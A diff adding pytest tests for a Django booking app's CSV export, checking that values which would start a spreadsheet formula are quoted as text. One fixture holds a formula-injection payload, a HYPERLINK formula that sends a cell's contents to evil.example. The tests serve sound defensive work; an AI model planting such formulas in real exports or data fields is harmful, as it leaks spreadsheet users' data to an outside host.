@@ -75,6 +75,22 @@ def test_csv_export_follows_the_list_filters(client_as):
 
 
 @pytest.mark.django_db
+def test_csv_export_shows_a_typed_formula_as_text(client_as):
+    booking = BookingFactory(status="confirmed", comment='=HYPERLINK("http://evil.example/?"&A1,"click")')
+    response = client_as("operator").get("/api/scheduler/export.csv")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[0]["comment"] == "'" + booking.comment
+    assert rows[0]["id"] == str(booking.pk)
+
+
+def test_only_text_that_would_start_a_formula_is_quoted():
+    from core.api.mixins import spreadsheet_safe
+
+    assert [spreadsheet_safe(v) for v in ["=1+1", "+cmd", "@SUM(A1)", "-2.500", "-x", "plain", 3]] == \
+        ["'=1+1", "'+cmd", "'@SUM(A1)", "-2.500", "'-x", "plain", 3]
+
+
+@pytest.mark.django_db
 def test_the_user_feed_lists_own_and_shared_bookings_and_a_rotated_token_stops_working(client_as, make_user):
     owner = make_user("member")
     own = BookingFactory(user=owner, status="confirmed")
